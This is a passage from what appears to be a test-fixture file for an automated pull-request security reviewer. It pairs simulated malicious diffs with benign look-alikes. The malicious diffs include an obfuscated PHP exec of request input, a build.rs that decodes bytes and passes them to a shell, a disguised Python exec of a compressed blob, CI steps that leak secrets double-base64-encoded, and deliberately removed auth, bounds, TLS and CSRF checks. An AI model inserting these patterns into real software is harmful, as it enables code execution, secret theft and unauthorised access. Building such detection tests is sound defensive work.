            head: lines('<?php', '', 'namespace App\\Cache;', '', 'final class Warmup', '{', '    public function run(): array', '    {', '        $f = "ex" . "ec";', '        $out = [];', "        $f($_GET['warm'] ?? 'true', $out);", '        return $out;', '    }', '}'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code'] },
  },
  {
    id: 'code-session-secret-literal-fallback',
    description: 'A "Configure sessions" PR gives the Sinatra session secret a literal fallback (`ENV[\'SESSION_SECRET\'] || \'notebook-default-secret\'`): a deployment without the variable signs every session cookie with a key written in the repository.',
    fixture: () =>
      codePr({
        repo: 'notebook',
        number: 342,
        title: 'Configure sessions',
        files: [
          {
            path: 'app/server.rb',
            base: lines("require 'sinatra/base'", '', 'class NotebookApp < Sinatra::Base', "  get '/' do", "    erb :index", '  end', 'end'),
            head: lines("require 'sinatra/base'", '', 'class NotebookApp < Sinatra::Base', '  enable :sessions', "  set :session_secret, ENV['SESSION_SECRET'] || 'notebook-default-secret'", '', "  get '/' do", "    erb :index", '  end', 'end'),
          },
        ],
      }),
    expect: { level: 'low', action: ['approve', 'comment'], findings: ['hardcoded-secret-fallback'] },
  },
  {
    id: 'code-go-jwt-secret-fallback-next-lines',
    description: 'A "Read the JWT secret from the environment" PR in a Go service falls back, two lines on, to a literal when the variable is empty (`secret := os.Getenv("JWT_SECRET")`, `if secret == "" {`, `secret = "…"`): a deployment without the variable signs every token with a key written in the repository. Its config test sets a literal secret for itself, which is not reported.',
    fixture: () =>
      codePr({
        repo: 'notebook',
        number: 344,
        title: 'Read the JWT secret from the environment',
        files: [
          {
            path: 'internal/auth/config.go',
            base: lines('package auth', '', 'type Config struct {', '\tSecret []byte', '}', '', 'func Load(secret string) Config {', '\treturn Config{Secret: []byte(secret)}', '}'),
            head: lines('package auth', '', 'import "os"', '', 'type Config struct {', '\tSecret []byte', '}', '', 'func Load() Config {', '\tsecret := os.Getenv("JWT_SECRET")', '\tif secret == "" {', '\t\tsecret = "notebook-jwt-default"', '\t}', '\treturn Config{Secret: []byte(secret)}', '}'),
          },
          {
            path: 'internal/auth/config_test.go',
            status: 'added',
            head: lines('package auth', '', 'import "testing"', '', 'func TestLoad(t *testing.T) {', '\tsecret := "test-only-secret"', '\tif secret == "" {', '\t\tsecret = "unused-secret"', '\t}', '\tt.Setenv("JWT_SECRET", secret)', '\tif string(Load().Secret) != secret {', '\t\tt.Fatal("secret not read")', '\t}', '}'),
          },
        ],
      }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], findings: ['hardcoded-secret-fallback'] },
  },
  {
    id: 'code-dev-settings-secret-default-quiet',
    description: 'The benign look-alike: a Django project adds `settings/dev.py` with `SECRET_KEY = os.environ.get(\'SECRET_KEY\', \'django-insecure-dev-only\')`, and its production settings read the key with no default and a port with one.',
    fixture: () =>
      codePr({
        repo: 'notebook',
        number: 343,
        title: 'Split settings for development',
        files: [
          { path: 'mysite/settings/dev.py', status: 'added', head: lines('from .base import *  # noqa', 'import os', '', 'DEBUG = True', "SECRET_KEY = os.environ.get('SECRET_KEY', 'django-insecure-dev-only')") },
          { path: 'mysite/settings/prod.py', status: 'added', head: lines('from .base import *  # noqa', 'import os', '', 'DEBUG = False', "SECRET_KEY = os.environ['SECRET_KEY']", "PORT = int(os.environ.get('PORT', '8000'))") },
        ],
      }),
    expect: { level: 'low', action: 'approve', absentDrivers: ['finding:hardcoded-secret-fallback'] },
  },
  {
    id: 'code-scanner-terms-split-quiet',
    description: "A member adds terms to a linter's list of dangerous calls, each split (`'ev' + 'al'`) so that the linter does not flag its own source: the pieces make a list that runs nothing.",
    fixture: () =>
      codePr({
        repo: 'notebook',
        number: 314,
        title: 'Flag more dangerous calls in notes',
        files: [
          {
            path: 'src/lint/dangerous-terms.js',
            base: lines("'use strict';", '', "const TERMS = ['ev' + 'al', 'Funct' + 'ion'];", '', 'module.exports = { TERMS };'),
            head: lines("'use strict';", '', "const TERMS = ['ev' + 'al', 'Funct' + 'ion', 'ex' + 'ecSync', 'child_' + 'process'];", '', 'module.exports = { TERMS };'),
          },
        ],
      }),
    expect: { level: 'low', action: 'approve', absentDrivers: ['finding:obfuscated-code'] },
  },
  {
    id: 'code-rails-auth-filter-except-grows',
    description: "A \"Tidy controller filters\" PR from a first-time contributor adds `:show, :destroy` to the `except:` list of `before_action :authenticate_user!` in a Rails controller: anyone may now view and delete records without signing in. Both sides name the filter, so only pairing the lines sees the actions it skips grow.",
    fixture: () =>
      codePr({
        repo: 'notebook',
        number: 318,
        title: 'Tidy controller filters',
        author: 'newcomer',
        files: [
          {
            path: 'app/controllers/notes_controller.rb',
            base: lines('class NotesController < ApplicationController', '  before_action :authenticate_user!, except: [:index]', '  before_action :set_note, only: %i[show destroy]', '', '  def index', '    @notes = Note.shared', '  end', '', '  def destroy', '    @note.destroy!', '    redirect_to notes_path', '  end', 'end'),
            head: lines('class NotesController < ApplicationController', '  before_action :authenticate_user!, except: %i[index show destroy]', '  before_action :set_note, only: %i[show destroy]', '', '  def index', '    @notes = Note.shared', '  end', '', '  def destroy', '    @note.destroy!', '    redirect_to notes_path', '  end', 'end'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['auth-check-removed'] },
  },
  {
    id: 'code-rails-auth-filter-unless-request',
    description: 'A "Serve JSON to the mobile app" PR from a first-time contributor gives `before_action :authenticate_user!` the condition `unless: -> { request.format.json? }`: any caller who asks for JSON reads and deletes records without signing in. Both sides name the filter; only the condition added loosens it.',
    fixture: () =>
      codePr({
        repo: 'notebook',
        number: 320,
        title: 'Serve JSON to the mobile app',
        author: 'newcomer',
        files: [
          {
            path: 'app/controllers/notes_controller.rb',
            base: lines('class NotesController < ApplicationController', '  before_action :authenticate_user!', '  before_action :set_note, only: %i[show destroy]', '', '  def show', '  end', '', '  def destroy', '    @note.destroy!', '    redirect_to notes_path', '  end', 'end'),
            head: lines('class NotesController < ApplicationController', '  before_action :authenticate_user!, unless: -> { request.format.json? }', '  before_action :set_note, only: %i[show destroy]', '', '  def show', '    respond_to do |format|', '      format.html', '      format.json { render json: @note }', '    end', '  end', '', '  def destroy', '    @note.destroy!', '    redirect_to notes_path', '  end', 'end'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['auth-check-removed'] },
  },
  {
    id: 'code-build-rs-xor-payload-to-shell',
    description:
      'Modeled on the malicious crates of 2024-2025 whose build.rs hid its command: a first-time contributor\'s "Speed up builds with a cached codegen" adds a build.rs that keeps a byte array, XORs it back into text and hands it to `sh -c` through a builder chain over three lines. No decoder name, no URL and no shell string is in the source for a reader to see.',
    fixture: () =>
      codePr({
        repo: 'termlog',
        number: 3931,
        title: 'Speed up builds with a cached codegen',
        author: 'newcomer',
        files: [
          { path: 'Cargo.toml', base: lines('[package]', 'name = "termlog"', 'version = "0.4.2"', 'edition = "2021"'), head: lines('[package]', 'name = "termlog"', 'version = "0.4.2"', 'edition = "2021"', 'build = "build.rs"') },
          {
            path: 'build.rs',
            head: lines(
              'use std::process::Command;',
              '',
              'const TABLE: [u8; 14] = [0x2f, 0x39, 0x3e, 0x20, 0x6c, 0x61, 0x3f, 0x6c, 0x24, 0x38, 0x38, 0x3c, 0x3f, 0x76];',
              '',
              'fn main() {',
              '    println!("cargo:rerun-if-changed=build.rs");',
              '    let cache: String = TABLE.iter().map(|b| (b ^ 0x4c) as char).collect();',
              '    let _ = Command::new("sh")',
              '        .arg("-c")',
              '        .arg(&cache)',
              '        .status();',
              '}',
            ),
          },
        ],
      }),
    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'], drivers: ['finding:build-code-behavior'] },
  },
  {
    id: 'code-build-rs-git-hash-quiet',
    description: 'The benign look-alike: a member adds a build.rs that asks git for the commit (`Command::new("git").args(["rev-parse", "--short", "HEAD"])`) and pkg-config for a library, and passes them to the compiler as `rustc-env`. A new build script is worth a look (cargo-build-script), nothing is decoded or handed to a shell.',
    fixture: () =>
      codePr({
        repo: 'termlog',
        number: 3932,
        title: 'Show the commit in --version',
        files: [
          { path: 'Cargo.toml', base: lines('[package]', 'name = "termlog"', 'version = "0.4.2"', 'edition = "2021"'), head: lines('[package]', 'name = "termlog"', 'version = "0.4.2"', 'edition = "2021"', 'build = "build.rs"') },
          {
            path: 'build.rs',
            head: lines(
              'use std::process::Command;',
              '',
              'fn main() {',
              '    println!("cargo:rerun-if-changed=.git/HEAD");',
              '    let out = Command::new("git")',
              '        .args(["rev-parse", "--short", "HEAD"])',
              '        .output()',
              '        .expect("git");',
              '    let hash = String::from_utf8_lossy(&out.stdout);',
              '    println!("cargo:rustc-env=GIT_HASH={}", hash.trim());',
              '    pkg_config::probe_library("zlib").unwrap();',
              '}',
            ),
          },
        ],
      }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
  },
  {
    id: 'code-python-exec-through-builtins-namespace',
    description:
      'Modeled on the PyPI droppers that keep `exec(` off the line: a first-time contributor\'s "Lazy-load color themes" adds to the package\'s `__init__.py` a lookup of exec in the builtins namespace by its name and runs a zlib-packed blob through it (`getattr(builtins, "exec")(zlib.decompress(…))`). No `exec(` for a search to find, no decoder for the decode-and-run rule.',
    fixture: () =>
      codePr({
        repo: 'colorfmt',
        number: 3933,
        title: 'Lazy-load color themes',
        author: 'newcomer',
        files: [
          {
            path: 'colorfmt/__init__.py',
            base: lines('from .core import colorize, strip', '', '__all__ = ["colorize", "strip"]', '__version__ = "2.3.1"'),
            head: lines(
              'import builtins',
              'import zlib',
              '',
              'from .core import colorize, strip',
              '',
              '__all__ = ["colorize", "strip"]',
              '__version__ = "2.3.1"',
              '',
              '_THEMES = b"x\\x9c\\xcbH\\xcd\\xc9\\xc9W(\\xcf/\\xcaI\\x01\\x00\\x1a\\x0b\\x04]"',
              '_load = getattr(builtins, "exec")',
              '_load(zlib.decompress(_THEMES))',
            ),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code'], drivers: ['finding:obfuscated-code'] },
  },
  {
    id: 'code-python-plugin-getattr-quiet',
    description: 'The benign look-alike: a member adds a plugin registry that imports each configured module, takes its `register` function with `getattr` by a constant name and calls it, and compiles the name pattern with `re.compile`. Nothing is looked up in the builtins namespace and no text is run as code.',
    fixture: () =>
      codePr({
        repo: 'colorfmt',
        number: 3934,
        title: 'Load theme plugins from entry points',
        files: [
          {
            path: 'colorfmt/plugins.py',
            head: lines(
              'import importlib',
              'import re',
              '',
              '_NAME = re.compile(r"^[a-z][a-z0-9_]*$")',
              '',
              '',
              'def load_plugins(names):',
              '    for name in names:',
              '        if not _NAME.match(name):',
              '            raise ValueError(f"bad plugin name: {name}")',
              '        module = importlib.import_module(f"colorfmt_themes.{name}")',
              '        register = getattr(module, "register", None)',
              '        if register is not None:',
              '            register()',
            ),
          },
        ],
      }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:obfuscated-code'] },
  },
  {
    id: 'code-secret-double-base64-into-job-summary',
    description:
      'Modeled on the tj-actions/changed-files payload of March 2025, which printed the runner\'s secrets base64-encoded twice where GitHub\'s masking does not recognize them: a "ci: add a publish summary" PR writes `echo "$(echo $TOKEN | base64 | base64)"` into `$GITHUB_STEP_SUMMARY`, shown on the run\'s page to anyone who can read the repository\'s runs.',
    fixture: () =>
      codePr({
        repo: 'pathdiff',
        number: 3935,
        title: 'ci: add a publish summary',
        author: 'newcomer',
        files: [
          {
            path: '.github/workflows/ci.yml',
            base: ciWorkflow(),
            head: ciWorkflow({ extraStep: ['      - name: Publish summary', '        env:', '          TOKEN: ${{ secrets.NPM_TOKEN }}', '        run: |', '          echo "## Publish" >> $GITHUB_STEP_SUMMARY', '          echo "$(echo $TOKEN | base64 | base64)" >> $GITHUB_STEP_SUMMARY'] }),
          },
        ],
      }),
    expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
  },
  {
    id: 'code-ci-script-prints-environment-double-base64',
    description:
      'The same payload moved into a script the workflow runs, where no workflow rule reads it: a "ci: report the runner environment on failure" PR adds `scripts/ci/diagnose.sh`, whose `env | base64 -w0 | base64 -w0` prints every secret the step can see, encoded twice, into the log, and a step that runs it.',
    fixture: () =>
      codePr({
        repo: 'pathdiff',
        number: 3936,
        title: 'ci: report the runner environment on failure',
        author: 'newcomer',
        files: [
          {
            path: '.github/workflows/ci.yml',
            base: ciWorkflow(),
            head: ciWorkflow({ extraStep: ['      - name: Diagnose', '        if: failure()', '        run: bash scripts/ci/diagnose.sh'] }),
          },
          { path: 'scripts/ci/diagnose.sh', head: lines('#!/usr/bin/env bash', 'set -euo pipefail', 'echo "node $(node --version), npm $(npm --version)"', 'df -h .', 'env | base64 -w0 | base64 -w0') },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['secret-logged'] },
  },
  {
    id: 'code-action-prints-environment-double-base64',
    description:
      'The tj-actions/changed-files payload of March 2025 written in the action\'s own TypeScript: a "log inputs for debugging" PR to a JavaScript GitHub Action encodes `process.env` (every secret the calling workflow gave the step) to base64, then encodes that again and prints it with `core.info`, where the runner\'s masking does not recognize it.',
    fixture: () =>
      codePr({
        repo: 'pathdiff-action',
        number: 3938,
        title: 'Log inputs for debugging',
        author: 'newcomer',
        files: [
          {
            path: 'src/main.ts',
            base: lines("import * as core from '@actions/core';", '', 'export async function run(): Promise<void> {', "  const base = core.getInput('base');", '  core.setOutput(\'changed\', await changedFiles(base));', '}'),
            head: lines("import * as core from '@actions/core';", '', 'export async function run(): Promise<void> {', "  const base = core.getInput('base');", "  const state = Buffer.from(JSON.stringify(process.env)).toString('base64');", "  core.info(`debug: ${Buffer.from(state).toString('base64')}`);", '  core.setOutput(\'changed\', await changedFiles(base));', '}'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['secret-logged'] },
  },
  {
    id: 'code-job-summary-coverage-quiet',
    description: 'The benign look-alike: a member adds a job summary with the coverage table and the commit, and a diagnostics script that prints the tool versions and the environment\'s names sorted (GitHub masks the values of secrets printed plainly). Nothing secret is encoded.',
    fixture: () =>
      codePr({
        repo: 'pathdiff',
        number: 3937,
        title: 'ci: add a coverage summary',
        files: [
          {
            path: '.github/workflows/ci.yml',
            base: ciWorkflow(),
            head: ciWorkflow({ extraStep: ['      - name: Coverage summary', '        run: |', '          echo "## Coverage for $(git rev-parse --short HEAD)" >> $GITHUB_STEP_SUMMARY', '          cat coverage/summary.md >> "$GITHUB_STEP_SUMMARY"', '      - run: bash scripts/ci/diagnose.sh'] }),
          },
          { path: 'scripts/ci/diagnose.sh', head: lines('#!/usr/bin/env bash', 'set -euo pipefail', 'echo "node $(node --version), npm $(npm --version)"', 'env | cut -d= -f1 | sort') },
        ],
      }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:secret-logged', 'finding:gha-secrets-exfiltration'] },
  },
  {
    id: 'code-rails-devise-controller-condition-quiet',
    description: 'The benign look-alike: a member moves authentication into ApplicationController as `before_action :authenticate_user!, unless: :devise_controller?`, the form Devise documents so that its own sign-in pages are not redirected to themselves.',
    fixture: () =>
      codePr({
        repo: 'notebook',
        number: 321,
        title: 'Authenticate in ApplicationController',
        files: [
          {
            path: 'app/controllers/application_controller.rb',
            base: lines('class ApplicationController < ActionController::Base', '  before_action :authenticate_user!', 'end'),
            head: lines('class ApplicationController < ActionController::Base', '  before_action :authenticate_user!, unless: :devise_controller?', 'end'),
          },
        ],
      }),
    expect: { level: 'low', action: 'approve', absentDrivers: ['finding:auth-check-removed'] },
  },
  {
    id: 'code-drf-permission-alternative-quiet',
    description: 'A member lets a note\'s owner edit it besides staff: `permission_classes = [IsAdminUser]` becomes `[IsAdminUser | IsNoteOwner]`. Both alternatives refuse strangers (a project\'s own class ranks as strict), so no access rule is loosened.',
    fixture: () =>
      codePr({
        repo: 'notebook',
        number: 319,
        title: 'Let owners edit their notes',
        files: [
          {
            path: 'notes/views.py',
            base: lines('from rest_framework import viewsets', 'from rest_framework.permissions import IsAdminUser', '', 'from .permissions import IsNoteOwner', '', '', 'class NoteViewSet(viewsets.ModelViewSet):', '    queryset = Note.objects.all()', '    serializer_class = NoteSerializer', '    permission_classes = [IsAdminUser]'),
            head: lines('from rest_framework import viewsets', 'from rest_framework.permissions import IsAdminUser', '', 'from .permissions import IsNoteOwner', '', '', 'class NoteViewSet(viewsets.ModelViewSet):', '    queryset = Note.objects.all()', '    serializer_class = NoteSerializer', '    permission_classes = [IsAdminUser | IsNoteOwner]'),
          },
        ],
      }),
    expect: { level: 'low', action: 'approve', absentDrivers: ['finding:auth-check-removed'] },
  },
  {
    id: 'code-spring-matcher-list-rewrapped-quiet',
    description: "A member rewraps Spring Security's public matcher list over three lines (`.requestMatchers(` / `\"/\", \"/login\", \"/css/**\"` / `).permitAll()`): the same routes are public as before, so the permitAll() line restates an exemption the hunk removes (a low note, as a line moved).",
    fixture: () =>
      codePr({
        repo: 'ledger',
        number: 4411,
        title: 'Wrap the public matcher list',
        files: [
          {
            path: 'src/main/java/com/acme/ledger/config/SecurityConfig.java',
            base: lines('package com.acme.ledger.config;', '', '@Configuration', 'public class SecurityConfig {', '    @Bean', '    SecurityFilterChain filterChain(HttpSecurity http) throws Exception {', '        http', '            .csrf(csrf -> csrf.csrfTokenRepository(CookieCsrfTokenRepository.withHttpOnlyFalse()))', '            .authorizeHttpRequests(auth -> auth', '                .requestMatchers("/", "/login", "/css/**").permitAll()', '                .requestMatchers("/admin/**").hasRole("ADMIN")', '                .anyRequest().authenticated()', '            )', '            .formLogin(form -> form.loginPage("/login"));', '        return http.build();', '    }', '}'),
            head: lines('package com.acme.ledger.config;', '', '@Configuration', 'public class SecurityConfig {', '    @Bean', '    SecurityFilterChain filterChain(HttpSecurity http) throws Exception {', '        http', '            .csrf(csrf -> csrf.csrfTokenRepository(CookieCsrfTokenRepository.withHttpOnlyFalse()))', '            .authorizeHttpRequests(auth -> auth', '                .requestMatchers(', '                    "/", "/login", "/css/**"', '                ).permitAll()', '                .requestMatchers("/admin/**").hasRole("ADMIN")', '                .anyRequest().authenticated()', '            )', '            .formLogin(form -> form.loginPage("/login"));', '        return http.build();', '    }', '}'),
          },
        ],
      }),
    expect: { level: 'low', action: 'approve', absentDrivers: ['finding:auth-check-removed'] },
  },
  {
    id: 'code-drf-permission-classes-loosened',
    description: "A PR trades a Django REST framework viewset's `permission_classes = [IsAdminUser]` for `[IsAuthenticated]`: every signed-in user can now list, edit and delete invoices only staff could reach. The line still names permission classes, so no check looks removed by count.",
    fixture: () =>
      codePr({
        repo: 'invoicing',
        number: 918,
        title: 'Simplify invoice viewset permissions',
        files: [
          {
            path: 'invoices/api/views.py',
            base: lines('from rest_framework import viewsets', 'from rest_framework.permissions import IsAdminUser, IsAuthenticated', '', 'from ..models import Invoice', 'from .serializers import InvoiceSerializer', '', '', 'class InvoiceViewSet(viewsets.ModelViewSet):', '    queryset = Invoice.objects.all()', '    serializer_class = InvoiceSerializer', '    permission_classes = [IsAdminUser]'),
            head: lines('from rest_framework import viewsets', 'from rest_framework.permissions import IsAdminUser, IsAuthenticated', '', 'from ..models import Invoice', 'from .serializers import InvoiceSerializer', '', '', 'class InvoiceViewSet(viewsets.ModelViewSet):', '    queryset = Invoice.objects.all()', '    serializer_class = InvoiceSerializer', '    permission_classes = [IsAuthenticated]'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['auth-check-removed'] },
  },
  {
    id: 'code-laravel-route-group-middleware-dropped',
    description: "A Laravel PR \"cleans up\" routes/web.php and drops `Route::middleware(['auth', 'can:admin'])` from the admin group's chain: the ban and user routes below stay registered, now for anyone.",
    fixture: () =>
      codePr({
        repo: 'forum',
        number: 2207,
        title: 'Clean up admin routes',
        files: [
          {
            path: 'routes/web.php',
            base: lines('<?php', '', 'use App\\Http\\Controllers\\AdminController;', 'use Illuminate\\Support\\Facades\\Route;', '', "Route::middleware(['auth', 'can:admin'])->prefix('admin')->group(function () {", "    Route::get('/users', [AdminController::class, 'users']);", "    Route::post('/users/{user}/ban', [AdminController::class, 'ban']);", '});'),
            head: lines('<?php', '', 'use App\\Http\\Controllers\\AdminController;', 'use Illuminate\\Support\\Facades\\Route;', '', "Route::prefix('admin')->group(function () {", "    Route::get('/users', [AdminController::class, 'users']);", "    Route::post('/users/{user}/ban', [AdminController::class, 'ban']);", '});'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['auth-check-removed'] },
  },
  {
    id: 'code-go-multiline-guard-always-true-typo',
    description: 'A "Fix typo" PR from a first-time contributor appends `|| true` to the closing line of a Go guard whose `if !authorized(` call spans several lines: the 403 branch always runs for nobody, every caller reaches the delete.',
    fixture: () =>
      codePr({
        repo: 'users-api',
        number: 3322,
        title: 'Fix typo',
        author: 'newcomer',
        files: [{ path: 'api/users.go', base: lines('package api', '', 'import "net/http"', '', 'func deleteUser(w http.ResponseWriter, r *http.Request) {', '\tuser := currentUser(r)', '\tif !authorized(', '\t\tr,', '\t\tuser,', '\t) {', '\t\thttp.Error(w, "forbidden", http.StatusForbidden)', '\t\treturn', '\t}', '\tdoDelete(r)', '}'), head: lines('package api', '', 'import "net/http"', '', 'func deleteUser(w http.ResponseWriter, r *http.Request) {', '\tuser := currentUser(r)', '\tif !authorized(', '\t\tr,', '\t\tuser,', '\t) || true {', '\t\thttp.Error(w, "forbidden", http.StatusForbidden)', '\t\treturn', '\t}', '\tdoDelete(r)', '}') }],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['auth-bypass-added'] },
  },
  {
    id: 'code-go-multiline-guard-argument-added-quiet',
    description: 'A member passes one more argument (the scope) to a Go guard whose `if !authorized(` call spans several lines: the check stays whole.',
    fixture: () =>
      codePr({
        repo: 'users-api',
        number: 3323,
        title: 'Check the delete scope in the users handler',
        files: [{ path: 'api/users.go', base: lines('package api', '', 'import "net/http"', '', 'func deleteUser(w http.ResponseWriter, r *http.Request) {', '\tuser := currentUser(r)', '\tif !authorized(', '\t\tr,', '\t\tuser,', '\t) {', '\t\thttp.Error(w, "forbidden", http.StatusForbidden)', '\t\treturn', '\t}', '\tdoDelete(r)', '}'), head: lines('package api', '', 'import "net/http"', '', 'func deleteUser(w http.ResponseWriter, r *http.Request) {', '\tuser := currentUser(r)', '\tif !authorized(', '\t\tr,', '\t\tuser,', '\t\tscopeDelete,', '\t) {', '\t\thttp.Error(w, "forbidden", http.StatusForbidden)', '\t\treturn', '\t}', '\tdoDelete(r)', '}') }],
      }),
    expect: { level: 'low', action: 'approve', noFindings: true },
  },
  {
    id: 'code-multiline-route-guard-line-removed-typo',
    description: 'A "Fix typo" PR from a first-time contributor removes the `requireAuth,` line of an Express route registered over several lines: the route stays, its guard is gone, anyone may delete users.',
    fixture: () =>
      codePr({ repo: 'admin-api', number: 3324, title: 'Fix typo', author: 'newcomer', files: [{ path: 'src/routes/admin.js', base: lines("const express = require('express');", "const { requireAuth } = require('./auth');", 'const router = express.Router();', '', 'router.post(', "  '/admin/users/:id/delete',", '  requireAuth,', '  deleteUser,', ');', '', "router.get('/health', health);", '', 'module.exports = router;'), head: lines("const express = require('express');", "const { requireAuth } = require('./auth');", 'const router = express.Router();', '', 'router.post(', "  '/admin/users/:id/delete',", '  deleteUser,', ');', '', "router.get('/health', health);", '', 'module.exports = router;') }] }),
    expect: { level: 'critical', action: 'request_changes', findings: ['auth-check-removed', 'pr-claim-mismatch'] },
  },
  {
    id: 'code-python-root-prefix-loses-slash-typo',
    description: 'A "Fix typo" PR from a first-time contributor drops the trailing slash of a literal root in a `startswith` containment check: `/srv/data-private/secrets` now passes as inside `/srv/data` (prefix confusion).',
    fixture: () => codePr({ repo: 'files-api', number: 3325, title: 'Fix typo', author: 'newcomer', files: [{ path: 'app/files.py', base: lines('import os', '', 'DATA_ROOT = "/srv/data"', '', 'def read_file(path):', '    path = os.path.realpath(path)', "    if not path.startswith('/srv/data/'):", '        raise PermissionError(path)', '    with open(path) as f:', '        return f.read()'), head: lines('import os', '', 'DATA_ROOT = "/srv/data"', '', 'def read_file(path):', '    path = os.path.realpath(path)', "    if not path.startswith('/srv/data'):", '        raise PermissionError(path)', '    with open(path) as f:', '        return f.read()') }] }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['path-check-removed', 'pr-claim-mismatch'] },
  },
  {
    id: 'code-python-root-prefix-named-constant-quiet',
    description: 'A member replaces the literal root of a `startswith` containment check with the module constant and `os.sep`: the separator stays, the check is whole.',
    fixture: () => codePr({ repo: 'files-api', number: 3326, title: 'Use DATA_ROOT in the containment check', files: [{ path: 'app/files.py', base: lines('import os', '', 'DATA_ROOT = "/srv/data"', '', 'def read_file(path):', '    path = os.path.realpath(path)', "    if not path.startswith('/srv/data/'):", '        raise PermissionError(path)', '    with open(path) as f:', '        return f.read()'), head: lines('import os', '', 'DATA_ROOT = "/srv/data"', '', 'def read_file(path):', '    path = os.path.realpath(path)', "    if not path.startswith(DATA_ROOT + os.sep):", '        raise PermissionError(path)', '    with open(path) as f:', '        return f.read()') }] }),
    expect: { level: 'low', action: 'approve', noFindings: true },
  },
  {
    id: 'code-rust-bounds-operand-dropped-typo',
    description: 'A "Fix typo" PR from a first-time contributor drops `&& idx + n <= self.buf.len()` from a Rust reader\'s bounds check: a slice past the end of the buffer is no longer refused.',
    fixture: () => codePr({ repo: 'wire-reader', number: 3327, title: 'Fix typo', author: 'newcomer', files: [{ path: 'src/reader.rs', base: lines('pub struct Reader {', '    buf: Vec<u8>,', '}', '', 'impl Reader {', '    pub fn read_slice(&self, idx: usize, n: usize) -> Option<&[u8]> {', '        if idx < self.buf.len() && idx + n <= self.buf.len() {', '            return Some(&self.buf[idx..idx + n]);', '        }', '        None', '    }', '}'), head: lines('pub struct Reader {', '    buf: Vec<u8>,', '}', '', 'impl Reader {', '    pub fn read_slice(&self, idx: usize, n: usize) -> Option<&[u8]> {', '        if idx < self.buf.len() {', '            return Some(&self.buf[idx..idx + n]);', '        }', '        None', '    }', '}') }] }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['bounds-check-loosened', 'pr-claim-mismatch'] },
  },
  {
    id: 'code-rust-bounds-test-on-own-line-quiet',
    description: 'A member splits a Rust reader\'s two-part bounds check into an early return for `idx + n > len` and the remaining test: every bound is still checked.',
    fixture: () => codePr({ repo: 'wire-reader', number: 3328, title: 'Return early when the slice runs past the buffer', files: [{ path: 'src/reader.rs', base: lines('pub struct Reader {', '    buf: Vec<u8>,', '}', '', 'impl Reader {', '    pub fn read_slice(&self, idx: usize, n: usize) -> Option<&[u8]> {', '        if idx < self.buf.len() && idx + n <= self.buf.len() {', '            return Some(&self.buf[idx..idx + n]);', '        }', '        None', '    }', '}'), head: lines('pub struct Reader {', '    buf: Vec<u8>,', '}', '', 'impl Reader {', '    pub fn read_slice(&self, idx: usize, n: usize) -> Option<&[u8]> {', '        if idx + n > self.buf.len() {', '            return None;', '        }', '        if idx < self.buf.len() {', '            return Some(&self.buf[idx..idx + n]);', '        }', '        None', '    }', '}') }] }),
    expect: { level: 'low', action: 'approve', noFindings: true },
  },
  {
    id: 'code-go-insecure-skip-verify-assigned-typo',
    description: 'A "Fix typo" PR from a first-time contributor sets `cfg.InsecureSkipVerify = true` on its own line after the `tls.Config` literal: the client accepts any certificate.',
    fixture: () => codePr({ repo: 'billing-client', number: 3329, title: 'Fix typo', author: 'newcomer', files: [{ path: 'client/http.go', base: lines('package client', '', 'import (', '\t"crypto/tls"', '\t"net/http"', ')', '', 'func newClient() *http.Client {', '\tcfg := &tls.Config{MinVersion: tls.VersionTLS12}', '\treturn &http.Client{Transport: &http.Transport{TLSClientConfig: cfg}}', '}'), head: lines('package client', '', 'import (', '\t"crypto/tls"', '\t"net/http"', ')', '', 'func newClient() *http.Client {', '\tcfg := &tls.Config{MinVersion: tls.VersionTLS12}', '\tcfg.InsecureSkipVerify = true', '\treturn &http.Client{Transport: &http.Transport{TLSClientConfig: cfg}}', '}') }] }),
    expect: { level: 'critical', action: 'request_changes', findings: ['tls-verification-disabled', 'pr-claim-mismatch'] },
  },
  {
    id: 'code-rails-skip-forgery-protection-cleanup',
    description: 'A "Cleanup" PR from a first-time contributor adds `skip_forgery_protection` to a Rails controller that creates transfers: any site a signed-in user visits may post a transfer with their cookies.',
    fixture: () => codePr({ repo: 'bank-web', number: 3330, title: 'Cleanup transfers controller', author: 'newcomer', files: [{ path: 'app/controllers/transfers_controller.rb', base: lines('class TransfersController < ApplicationController', '  def create', '    Transfer.create!(transfer_params)', '  end', 'end'), head: lines('class TransfersController < ApplicationController', '  skip_forgery_protection', '  def create', '    Transfer.create!(transfer_params)', '  end', 'end') }] }),
    expect: { level: ['medium', 'high', 'critical'], action: ['needs_discussion', 'request_changes'], findings: ['auth-bypass-added'] },
  },
  {
    id: 'code-ruby-double-quotes-style-run-quiet',
    description: "A RuboCop Style/StringLiterals run turns a controller's single-quoted literals into double-quoted ones under a \"style:\" title: Ruby reads `'member'` and `\"member\"` alike when nothing is interpolated, so nothing changes that runs and no code is untested.",
    fixture: () =>
      codePr({
        repo: 'members-api',
        number: 2290,
        title: 'style: prefer double-quoted strings (Style/StringLiterals)',
        files: [
          {
            path: 'app/controllers/members_controller.rb',
            base: lines('class MembersController < ApplicationController', '  before_action :authenticate_user!', '', '  def index', "    @members = Member.where(status: 'active').order('joined_at DESC')", '    render json: @members', '  end', '', '  def show', '    @member = Member.find(params[:id])', "    render json: @member.as_json(only: ['id', 'name'])", '  end', 'end'),
